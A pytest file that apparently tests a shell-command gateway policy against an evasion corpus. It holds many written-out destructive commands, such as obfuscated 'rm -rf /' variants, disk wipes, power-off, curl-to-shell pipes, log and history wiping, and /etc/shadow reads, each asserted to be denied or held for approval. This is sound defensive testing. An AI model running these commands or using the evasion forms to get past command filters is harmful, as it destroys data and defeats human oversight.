"""Evasion corpus: every attempt to slip a forbidden command past the starter policy.

Each case asserts the action the user sees (deny or approve) and, where it matters,
the rule or uncertainty reason. Line cases go through ``PolicyEngine.decide``; key
cases type into a real bash under a pty, through ``LineTracker`` and
``decide_snapshot`` (the Enter is never released: bash runs nothing).
"""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from policy_bashpty import BashPty

from gateway.policy import Action, PolicyEngine, decide_snapshot, starter_rules

ENGINE = PolicyEngine(starter_rules())
DENY, APPROVE = Action.DENY, Action.APPROVE
ROOT = "no-recursive-root-delete"

# (line, expected action, expected rule or reason substring or None)
LINE_CASES: list[tuple[str, Action, str | None]] = [
    # --- option forms
    ("rm -rf /", DENY, ROOT),
    ("rm -fr /", DENY, ROOT),
    ("rm -r -f /", DENY, ROOT),
    ("rm -f -r /", DENY, ROOT),
    ("rm --recursive --force /", DENY, ROOT),
    ("rm -Rf /", DENY, ROOT),
    ("rm / -rf", DENY, ROOT),
    ("rm -rf -- /", DENY, ROOT),
    ("rm -r -v -f /", DENY, ROOT),
    ("rm --no-preserve-root -rf /", DENY, None),
    # --- quoting and escapes
    ("r''m -rf /", DENY, ROOT),
    ("\\rm -rf /", DENY, ROOT),
    ('"r"m -rf /', DENY, ROOT),
    ("'rm' '-rf' '/'", DENY, ROOT),
    ('rm -rf "/"', DENY, ROOT),
    ("rm -r -f \\/", DENY, ROOT),
    ("$'\\x72\\x6d' -rf /", DENY, ROOT),
    ("$'\\162\\155' -rf /", DENY, ROOT),
    ("rm $'-\\x72f' /", DENY, ROOT),
    ("rm\t-rf\t/", DENY, ROOT),
    ("rm -rf / # just kidding", DENY, ROOT),
    # --- paths
    ("/bin/rm -rf /", DENY, ROOT),
    ("/usr/bin/../bin/rm -rf /", DENY, ROOT),
    ("./../../bin/rm -rf /", DENY, ROOT),
    ("rm -rf /tmp/../", DENY, ROOT),
    ("rm -rf //", DENY, ROOT),
    ("rm -rf /.", DENY, ROOT),
    ("rm -rf /*", DENY, ROOT),
    ("rm -rf /etc", DENY, ROOT),
    ("rm -rf /{etc,usr}", DENY, ROOT),
    ("rm -rf ~", DENY, ROOT),
    # --- wrappers
    ("sudo rm -rf /", DENY, ROOT),
    ("sudo -u root -- rm -rf /", DENY, ROOT),
    ("sudo -E -H rm -rf /", DENY, ROOT),
    ("doas rm -rf /", DENY, ROOT),
    ("env rm -rf /", DENY, ROOT),
    ("env -i PATH=/bin rm -rf /", DENY, ROOT),
    ("command rm -rf /", DENY, ROOT),
    ("builtin command rm -rf /", DENY, ROOT),
    ("nice -n 10 rm -rf /", DENY, ROOT),
    ("nohup rm -rf / &", DENY, ROOT),
    ("timeout 5 rm -rf /", DENY, ROOT),
    ("timeout -s KILL 5 rm -rf /", DENY, ROOT),
    ("time rm -rf /", DENY, ROOT),
    ("exec rm -rf /", DENY, ROOT),
    ("ionice -c3 rm -rf /", DENY, ROOT),
    ("stdbuf -oL rm -rf /", DENY, ROOT),
    ("setsid rm -rf /", DENY, ROOT),
    ("chroot / rm -rf /", DENY, ROOT),
    ("busybox rm -rf /", DENY, ROOT),
    ("X=1 rm -rf /", DENY, ROOT),
    ("sudo env nice nohup rm -rf /", DENY, ROOT),
    ("strace -f -o /dev/null rm -rf /", DENY, ROOT),
    # --- chaining and grouping
    ("ls; rm -rf /", DENY, ROOT),
    ("ls && rm -rf /", DENY, ROOT),
    ("false || rm -rf /", DENY, ROOT),
    ("ls | rm -rf /", DENY, ROOT),
    ("(rm -rf /)", DENY, ROOT),
    ("{ rm -rf /; }", DENY, ROOT),
    ("! rm -rf /", DENY, ROOT),
    ("rm -rf / 2>/dev/null &", DENY, ROOT),
    ("echo hi\nrm -rf /", DENY, ROOT),
    ("cat <<EOF\nhi\nEOF\nrm -rf /", DENY, ROOT),
    ("if true; then rm -rf /; fi", DENY, ROOT),
    ("for i in 1; do rm -rf /; done", DENY, ROOT),
    ("while true; do halt; done", DENY, "no-power-off"),
    ("case x in x) rm -rf /;; esac", DENY, ROOT),
    # --- substitution (commands inside still run)
    ("echo $(rm -rf /)", DENY, ROOT),
    ("echo `rm -rf /`", DENY, ROOT),
    ("X=$(rm -rf /)", DENY, ROOT),
    ("cat <(rm -rf /)", DENY, ROOT),
    # --- command strings, recursively
    ("sh -c 'rm -rf /'", DENY, ROOT),
    ('bash -c "rm -rf /"', DENY, ROOT),
    ("bash -lc 'rm -rf /'", DENY, ROOT),
    ("su -c 'rm -rf /' root", DENY, ROOT),
    ("su - root -c 'rm -rf /'", DENY, ROOT),
    ("runuser -u root -- rm -rf /", DENY, ROOT),
    ("eval 'rm -rf /'", DENY, ROOT),
    ("eval rm -rf /", DENY, ROOT),
    ("bash -c 'sh -c \"rm -rf /\"'", DENY, ROOT),
    ("sudo sh -c 'rm -rf /'", DENY, ROOT),
    ("sudo -i rm -rf /", DENY, ROOT),
    ("sudo -s 'rm -rf /'", DENY, ROOT),
    ("ssh localhost 'rm -rf /'", DENY, ROOT),
    ("watch -n 1 'rm -rf /'", DENY, ROOT),
    ("env -S 'rm -rf /'", DENY, ROOT),
    ("script -c 'rm -rf /' /dev/null", DENY, ROOT),
    ("find /tmp -name x -exec /sbin/shutdown -h now \\;", DENY, "no-power-off"),
    # --- aliases and functions
    ("alias ls='rm -rf /'", DENY, ROOT),
    ("f() { rm -rf /; }; f", DENY, ROOT),
    ("function x { reboot; }", DENY, "no-power-off"),
    # --- other destructive commands
    ("mkfs.ext4 /dev/sda1", DENY, "no-filesystem-format"),
    ("mkfs -t ext4 /dev/sdb", DENY, "no-filesystem-format"),
    ("sudo wipefs -a /dev/sda", DENY, "no-filesystem-format"),
    ("dd if=/dev/zero of=/dev/sda", DENY, "no-raw-disk-write"),
    ("dd if=/dev/zero of=/dev/../dev/sda bs=1M", DENY, "no-raw-disk-write"),
    ("cat /dev/urandom > /dev/sda", DENY, "no-raw-disk-write"),
    ("echo x >/dev/nvme0n1", DENY, "no-raw-disk-write"),
    ("shutdown -h now", DENY, "no-power-off"),
    ("/sbin/reboot", DENY, "no-power-off"),
    ("sudo poweroff", DENY, "no-power-off"),
    ("systemctl reboot", DENY, "no-power-off"),
    ("systemctl --force poweroff", DENY, "no-power-off"),
    ("init 0", DENY, "no-power-off"),
    # --- deny beats uncertainty
    ("rm -rf / ; $(curl x)", DENY, ROOT),
    ("rm -rf / )", DENY, ROOT),
    # --- dynamic command word: approve
    ("$(echo rm) -rf /", APPROVE, "command substitution in command position"),
    ("`echo rm` -rf /", APPROVE, "command substitution in command position"),
    ("$CMD -rf /", APPROVE, "variable in command position"),
    ("${X} -rf /", APPROVE, "variable in command position"),
    ('"$X" -rf /', APPROVE, "variable in command position"),
    ("/bin/r? -rf /", APPROVE, "glob in command position"),
    ("/bin/r* -rf /", APPROVE, "glob in command position"),
    ("{rm,-rf,/}", APPROVE, None),
    ("{rm,-rf,/} x", APPROVE, None),
    # --- pipes into interpreters and decoders
    ("curl -s http://x | sh", APPROVE, "pipe into interpreter sh"),
    ("curl http://x | sudo bash", APPROVE, "pipe into interpreter bash"),
    ("wget -qO- http://x | python3", APPROVE, "pipe into interpreter python3"),
    ("cat x | perl", APPROVE, "pipe into interpreter perl"),
    ("echo cm0gLXJmIC8= | base64 -d | sh", APPROVE, None),
    # here-documents and here-strings are read as the input of their reader
    ("sh <<EOF\nrm -rf /\nEOF", DENY, ROOT),
    ("bash <<< 'rm -rf /'", DENY, ROOT),
    ("echo cm0gLXJmIC8= | base64 -d | bash", APPROVE, "pipe into interpreter bash"),
    ("bash <(curl http://x)", APPROVE, "dynamic script"),
    ("source <(curl http://x)", APPROVE, "dynamic input"),
    (". /dev/stdin", APPROVE, "dynamic input"),
    ("cat <<EOF | sh\nrm -rf /\nEOF", APPROVE, "pipe into interpreter sh"),
    ("echo 'rm -rf /' | xargs sh -c", APPROVE, None),
    # --- dynamic strings
    ('eval "$X"', APPROVE, "dynamic string passed to eval"),
    ('sh -c "$X"', APPROVE, "dynamic string passed to sh -c"),
    ('bash -c "$(curl http://x)"', APPROVE, "dynamic string"),
    ("python3 -c 'import os; os.system(\"rm -rf /\")'", APPROVE, "inline python3 code"),
    ("perl -e 'system(\"rm -rf /\")'", APPROVE, "inline perl code"),
    ("awk 'BEGIN{system(\"rm -rf /\")}'", APPROVE, "awk program runs commands"),
    # --- dynamic and glob arguments that could reach a rule
    ("rm -rf $X", APPROVE, "may match rule"),
    ('rm -rf "$HOME"', APPROVE, "may match rule"),
    ("rm -rf ${DIR}/", APPROVE, "may match rule"),
    ("echo / | xargs rm -rf", APPROVE, "may match rule"),
    ("rm -rf /[e]tc", APPROVE, "may match rule"),
    ("dd if=/dev/zero of=$DISK", APPROVE, "may match rule"),
    # --- history
    ("!!", APPROVE, "history expansion"),
    ("!rm", APPROVE, "history expansion"),
    ("sudo !!", APPROVE, "history expansion"),
    ("^foo^bar", APPROVE, "history expansion"),
    ("fc -s", APPROVE, "history re-execution"),
    # --- parse failures
    ("ls )(", APPROVE, "could not parse"),
    ("echo 'unterminated", APPROVE, None),
    # --- approve rules
    ("systemctl stop nginx", APPROVE, "approve-service-stop"),
    ("systemctl --now disable sshd", APPROVE, "approve-service-stop"),
    ("sudo systemctl restart postgresql", APPROVE, "approve-service-stop"),
    ("service nginx restart", APPROVE, "approve-service-stop"),
    ("iptables -F", APPROVE, "approve-firewall-change"),
    ("iptables -A INPUT -p tcp --dport 22 -j DROP", APPROVE, "approve-firewall-change"),
    ("nft flush ruleset", APPROVE, "approve-firewall-change"),
    ("ufw disable", APPROVE, "approve-firewall-change"),
    ("userdel -r bob", APPROVE, "approve-account-change"),
    ("sudo passwd root", APPROVE, "approve-account-change"),
    ("chmod -R 777 /var/www", APPROVE, "approve-world-writable"),
    ("chmod --recursive a+rwx /srv", APPROVE, "approve-world-writable"),
    ("chmod u+s /usr/bin/find", APPROVE, "approve-world-writable"),
    ("chown -R nobody /etc", APPROVE, "approve-recursive-chown-system"),
    ("kill -9 -1", APPROVE, "approve-kill-all"),
    ("crontab -r", APPROVE, "approve-crontab-remove"),
    ("crontab -u bob -r", APPROVE, "approve-crontab-remove"),
    ("history -c", APPROVE, "approve-history-wipe"),
    ("rm -f ~/.bash_history", APPROVE, "approve-history-wipe"),
    ("truncate -s 0 /var/log/auth.log", APPROVE, "approve-history-wipe"),
    ("cat /etc/shadow", APPROVE, "approve-read-shadow"),
    ("sudo tail -n 5 /etc/shadow", APPROVE, "approve-read-shadow"),
    ("find / -name '*.log' -delete", APPROVE, "approve-find-delete"),
]


def _ids() -> list[str]:
    return [f"{i:03d}-{line[:40]}" for i, (line, _, _) in enumerate(LINE_CASES)]


@pytest.mark.parametrize(("line", "expected", "why"), LINE_CASES, ids=_ids())
def test_evasion_line(line: str, expected: Action, why: str | None) -> None:
    """The attempts of the first policy's corpus still never run; a case once sent for
    approval may now be denied outright (the closed-world analyser sees more)."""
    d = ENGINE.decide(line, user="alice", groups=["ops"], target="web1")
    if expected is APPROVE:
        assert d.action in (APPROVE, DENY), (line, d)
    else:
        assert d.action is expected, (line, d)
    if why is not None and d.action is expected and (" " not in why or d.rule):
        assert why in (d.rule or "") or any(why in u for u in (d.reason, *d.uncertain)), (
            line, d)
    if d.action is DENY:
        assert d.rule is not None and d.rule in d.reason  # the user sees the rule name


def test_corpus_is_large_enough() -> None:
    assert len(LINE_CASES) + len(KEY_CASES) >= 60


# Key cases: (setup commands run first, keys typed, expected action, rule or reason)
KEY_CASES: list[tuple[list[str], bytes, Action, str | None]] = [
    ([], b"rm -rf /tm\x7f\x7f", DENY, ROOT),  # backspace
    ([], b"rm -rf /xyz\x1b[D\x1b[D\x1b[D\x0b", DENY, ROOT),  # arrows + Ctrl-K
    ([], b"echo rm -rf /\x01\x04\x04\x04\x04\x04", DENY, ROOT),  # Ctrl-A, Ctrl-D x5
    ([], b"ls /\x15rm -rf /", DENY, ROOT),  # Ctrl-U then the real command
    ([], b"rm -rf /tmp/ok\x17/", DENY, ROOT),  # Ctrl-W
    ([], b"rm -rf /\x15\x19", DENY, ROOT),  # kill then yank back
    (["echo rm -rf /"], b"\x1b[A\x01\x1b[3~\x1b[3~\x1b[3~\x1b[3~\x1b[3~", DENY, ROOT),  # history
    (["echo rm -rf /"], b"\x12echo rm\x1b[C\x01\x04\x04\x04\x04\x04", DENY, ROOT),
    ([], b"echo x; r\x01\x05m -rf /", DENY, ROOT),  # Ctrl-A / Ctrl-E
    ([], b"cat /etc/shado\t", APPROVE, "approve-read-shadow"),  # tab completion
    (['bind \'"\\C-xq": "rm -rf /"\''], b"\x18q", DENY, ROOT),  # macro bound to a key
    ([], b"\x1b[200~rm -rf /\x1b[201~", DENY, ROOT),  # bracketed paste
    ([], b"\x1b[200~echo ok\rrm -rf /\x1b[201~", DENY, ROOT),  # multi-line paste
    ([], b"echo \\", DENY, None),  # continuation: completed below
    (["set -o vi"], b"echo rm -rf /\x1b0dw", DENY, ROOT),  # vi mode: dw removes "echo "
]


@pytest.mark.parametrize(
    ("setup", "keys", "expected", "why"),
    KEY_CASES,
    ids=[f"keys-{i:02d}" for i in range(len(KEY_CASES))],
)
def test_evasion_keys(
    setup: list[str], keys: bytes, expected: Action, why: str | None, tmp_path: Path
) -> None:
    """Keys typed into a real bash; the Enter is never released (Ctrl-C instead)."""
    empty = tmp_path / "nopath"
    empty.mkdir()
    decisions = []

    def refuse(ev, snap):  # type: ignore[no-untyped-def]
        decisions.append(decide_snapshot(ENGINE, snap, user="a", groups=[], target="t"))
        return False

    # PATH is an empty directory: even a wrongly released line could run nothing.
    with BashPty(path=str(empty)) as b:
        for cmd in setup:
            b.run(cmd)
        if keys == b"echo \\":
            # Continuation: "echo \" Enter (unfinished: released), then "; rm -rf /".
            def cont(ev, snap):  # type: ignore[no-untyped-def]
                d = decide_snapshot(ENGINE, snap, user="a", groups=[], target="t")
                decisions.append(d)
                if d.incomplete:
                    b.tracker.continue_line(snap.text)
                    return True
                return False

            b.keys(b"echo \\\r", on_enter=cont)
            assert decisions and decisions[-1].incomplete
            b.keys(b"; rm -rf /\r", on_enter=cont)
        else:
            b.keys(keys + b"\r", on_enter=refuse)
    os.rmdir(empty)
    assert decisions, "no Enter reached the policy"
    d = decisions[-1]
    if expected is APPROVE and why is None:
        assert d.action in (APPROVE, DENY), d
    else:
        assert d.action is expected, d
    if why is not None:
        assert why in (d.rule or "") or why in d.reason, d
